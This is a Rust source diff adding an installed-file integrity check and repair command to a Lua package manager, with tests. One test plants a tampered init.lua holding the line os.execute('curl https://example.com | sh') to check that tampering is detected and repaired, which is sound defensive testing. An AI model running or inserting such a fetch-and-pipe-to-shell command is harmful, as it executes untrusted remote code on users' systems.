@@ -2,9 +2,12 @@ use depot::cache::Cache;
 use depot::config::Config;
 use depot::core::path::find_project_root;
 use depot::core::{DepotError, DepotResult};
+use depot::di::ServiceContainer;
+use depot::package::installer::PackageInstaller;
 use depot::package::lockfile::Lockfile;
-use depot::package::verifier::PackageVerifier;
+use depot::package::verifier::{verify_installed, InstalledState, PackageVerifier};
 use std::env;
+use std::path::Path;
 
 pub fn run() -> DepotResult<()> {
     let current_dir = env::current_dir()
@@ -63,10 +66,117 @@ pub fn run_with_cache(project_root: &std::path::Path, cache: Cache) -> DepotResu
     Ok(())
 }
 
+/// Check installed files against the hashes recorded at install, reinstalling
+/// damaged packages when `repair` is set
+pub async fn run_installed(repair: bool) -> DepotResult<()> {
+    let current_dir = env::current_dir()
+        .map_err(|e| DepotError::Path(format!("Failed to get current directory: {}", e)))?;
+    let project_root = find_project_root(&current_dir)?;
+
+    let installer = if repair {
+        let container = ServiceContainer::new()?;
+        Some(
+            PackageInstaller::new(
+                &project_root,
+                container.cache.clone(),
+                container.github.clone(),
+                container.config.github_fallback_chain().to_vec(),
+            )?
+            .with_archive_limits(container.config.archive_limits())
+            .with_signature_policy(container.config.signature_policy().clone()),
+        )
+    } else {
+        None
+    };
+
+    verify_installed_in_dir(&project_root, installer.as_ref()).await
+}
+
+/// Report modified, missing and extra files per package, then reinstall the
+/// damaged ones with `installer` if given
+pub async fn verify_installed_in_dir(
+    project_root: &Path,
+    installer: Option<&PackageInstaller>,
+) -> DepotResult<()> {
+    let lockfile = Lockfile::load(project_root)?.ok_or_else(|| {
+        DepotError::Package(format!(
+            "No {} found. Run 'depot install' first to generate a lockfile.",
+            depot::package::lockfile::LOCKFILE_NAME
+        ))
+    })?;
+
+    if lockfile.packages.is_empty() {
+        println!("No packages to verify");
+        return Ok(());
+    }
+
+    println!(
+        "Verifying installed files of {} package(s)...",
+        lockfile.packages.len()
+    );
+
+    let states = verify_installed(&lockfile, project_root)?;
+    let mut damaged = Vec::new();
+    for (package, state) in &states {
+        match state {
+            InstalledState::Intact => {}
+            InstalledState::Damaged(check) => {
+                println!("  ❌ {}", package);
+                for file in &check.modified {
+                    println!("      modified: {}", file);
+                }
+                for file in &check.missing {
+                    println!("      missing:  {}", file);
+                }
+                for file in &check.extra {
+                    println!("      extra:    {}", file);
+                }
+            }
+            InstalledState::NotInstalled => println!("  ❌ {}: not installed", package),
+            InstalledState::Unrecorded => {
+                println!("  ❌ {}: no file hashes recorded", package)
+            }
+        }
+        if state.needs_repair() {
+            damaged.push(package);
+        }
+    }
+
+    let intact = states
+        .iter()
+        .filter(|(_, state)| *state == InstalledState::Intact)
+        .count();
+    if damaged.is_empty() {
+        println!("✓ {} package(s) match their recorded file hashes", intact);
+        return Ok(());
+    }
+
+    let Some(installer) = installer else {
+        return Err(DepotError::Package(format!(
+            "{} installed package(s) do not match depot.lock. Run 'depot verify --installed --repair' to reinstall them",
+            damaged.len()
+        )));
+    };
+
+    installer.init()?;
+    for package in &damaged {
+        let locked = &lockfile.packages[*package];
+        println!("Repairing {}...", package);
+        installer
+            .reinstall_package(&locked.repository, Some(&locked.ref_value))
+            .await?;
+    }
+    println!("✓ Repaired {} package(s)", damaged.len());
+
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use depot::core::path::packages_metadata_dir;
     use depot::package::lockfile::{LockedPackage, Lockfile};
+    use depot::package::metadata::PackageMetadata;
     use depot::package::verifier::VerificationResult;
     use std::collections::HashMap;
     use std::fs;
@@ -131,6 +241,9 @@ mod tests {
             dependencies: deps,
             build: None,
             native_code: None,
+            license: None,
+            capabilities: Vec::new(),
+            repository_id: None,
         };
         lockfile.add_package("test-pkg".to_string(), package);
 
@@ -156,6 +269,9 @@ mod tests {
             dependencies: HashMap::new(),
             build: None,
             native_code: None,
+            license: None,
+            capabilities: Vec::new(),
+            repository_id: None,
         };
         lockfile.add_package("test-package".to_string(), package);
         assert!(!lockfile.packages.is_empty());
@@ -210,6 +326,9 @@ mod tests {
             dependencies: deps,
             build: None,
             native_code: None,
+            license: None,
+            capabilities: Vec::new(),
+            repository_id: None,
         };
         lockfile.add_package("parent-pkg".to_string(), package);
 
@@ -326,6 +445,9 @@ mod tests {
             dependencies: HashMap::new(),
             build: None,
             native_code: None,
+            license: None,
+            capabilities: Vec::new(),
+            repository_id: None,
         };
         lockfile.add_package("test-pkg".to_string(), package);
 
@@ -390,6 +512,9 @@ mod tests {
             dependencies: HashMap::new(),
             build: None,
             native_code: None,
+            license: None,
+            capabilities: Vec::new(),
+            repository_id: None,
         };
         lockfile.add_package("test-pkg".to_string(), package);
         lockfile.save(temp.path()).unwrap();
@@ -407,4 +532,155 @@ mod tests {
         // But we're testing that the code path executes (lines 31-63)
         let _ = result;
     }
+
+    fn write_tarball(dir: &Path) -> std::path::PathBuf {
+        use flate2::write::GzEncoder;
+        use flate2::Compression;
+
+        let path = dir.join("lib-v1.0.0.tar.gz");
+        let encoder = GzEncoder::new(fs::File::create(&path).unwrap(), Compression::default());
+        let mut tar = tar::Builder::new(encoder);
+
+        let mut header = tar::Header::new_gnu();
+        header.set_path("owner-lib-abc123/").unwrap();
+        header.set_entry_type(tar::EntryType::Directory);
+        header.set_size(0);
+        header.set_mode(0o755);
+        header.set_cksum();
+        tar.append(&header, &[] as &[u8]).unwrap();
+
+        for (name, content) in [
+            ("owner-lib-abc123/init.lua", "return {}"),
+            ("owner-lib-abc123/LICENSE", "MIT"),
+        ] {
+            let mut header = tar::Header::new_gnu();
+            header.set_path(name).unwrap();
+            header.set_size(content.len() as u64);
+            header.set_mode(0o644);
+            header.set_cksum();
+            tar.append(&header, content.as_bytes()).unwrap();
+        }
+        tar.into_inner().unwrap().finish().unwrap();
+        path
+    }
+
+    #[tokio::test]
+    async fn test_verify_installed_and_repair() {
+        use depot::di::mocks::{MockCacheProvider, MockGitHubProvider};
+        use depot::github::types::GitHubRelease;
+        use std::sync::Arc;
+
+        let temp = TempDir::new().unwrap();
+        fs::write(
+            temp.path().join("package.yaml"),
+            "name: test\nversion: 1.0.0\n",
+        )
+        .unwrap();
+
+        let tarball = write_tarball(temp.path());
+        let github = MockGitHubProvider::new();
+        github.add_release(
+            "owner",
+            "lib",
+            GitHubRelease {
+                tag_name: "v1.0.0".to_string(),
+                name: None,
+                draft: false,
+                prerelease: false,
+                tarball_url: String::new(),
+                zipball_url: String::new(),
+                assets: Vec::new(),
+                body: None,
+                published_at: None,
+            },
+        );
+        github.add_tarball("owner", "lib", "v1.0.0", tarball.clone());
+        let cache = MockCacheProvider::new();
+        cache.add_file(tarball.clone(), fs::read(&tarball).unwrap());
+
+        let installer = PackageInstaller::new(
+            temp.path(),
+            Arc::new(cache),
+            Arc::new(github),
+            vec!["release".to_string()],
+        )
+        .unwrap();
+        installer.init().unwrap();
+        installer
+            .install_package("owner/lib", Some("v1.0.0"))
+            .await
+            .unwrap();
+
+        let mut lockfile = Lockfile::new();
+        lockfile.add_package(
+            "owner/lib".to_string(),
+            LockedPackage {
+                version: "v1.0.0".to_string(),
+                repository: "owner/lib".to_string(),
+                ref_type: "Release".to_string(),
+                ref_value: "v1.0.0".to_string(),
+                commit_sha: "abc123".to_string(),
+                tarball_url: String::new(),
+                checksum: Cache::checksum(&tarball).unwrap(),
+                size: 1,
+                dependencies: HashMap::new(),
+                build: None,
+                native_code: None,
+                license: None,
+                capabilities: Vec::new(),
+                repository_id: None,
+            },
+        );
+        lockfile.save(temp.path()).unwrap();
+
+        verify_installed_in_dir(temp.path(), None).await.unwrap();
+
+        // A tampered file is reported and only fixed with --repair
+        let init = temp.path().join("lua_modules/owner/lib/init.lua");
+        fs::write(&init, "os.execute('curl https://example.com | sh')").unwrap();
+        let err = verify_installed_in_dir(temp.path(), None)
+            .await
+            .unwrap_err();
+        assert!(err
+            .to_string()
+            .contains("1 installed package(s) do not match"));
+
+        // A failed reinstall leaves the installed copy in place
+        let unreachable = PackageInstaller::new(
+            temp.path(),
+            Arc::new(MockCacheProvider::new()),
+            Arc::new(MockGitHubProvider::new()),
+            vec!["release".to_string()],
+        )
+        .unwrap();
+        assert!(verify_installed_in_dir(temp.path(), Some(&unreachable))
+            .await
+            .is_err());
+        assert!(fs::read_to_string(&init).unwrap().contains("os.execute"));
+        assert!(!temp.path().join("lua_modules/owner/lib.depot-old").exists());
+        assert!(verify_installed_in_dir(temp.path(), None).await.is_err());
+
+        verify_installed_in_dir(temp.path(), Some(&installer))
+            .await
+            .unwrap();
+        assert_eq!(fs::read_to_string(&init).unwrap(), "return {}");
+        assert!(!temp.path().join("lua_modules/owner/lib.depot-old").exists());
+        verify_installed_in_dir(temp.path(), None).await.unwrap();
+
+        // A package without recorded hashes cannot be verified, and --repair
+        // reinstalls it to record them
+        let metadata = PackageMetadata::path_in(&packages_metadata_dir(temp.path()), "owner/lib");
+        fs::remove_file(&metadata).unwrap();
+        let err = verify_installed_in_dir(temp.path(), None)
+            .await
+            .unwrap_err();
+        assert!(err
+            .to_string()
+            .contains("1 installed package(s) do not match"));
+        verify_installed_in_dir(temp.path(), Some(&installer))
+            .await
+            .unwrap();
+        assert!(metadata.exists());
+        verify_installed_in_dir(temp.path(), None).await.unwrap();
+    }
 }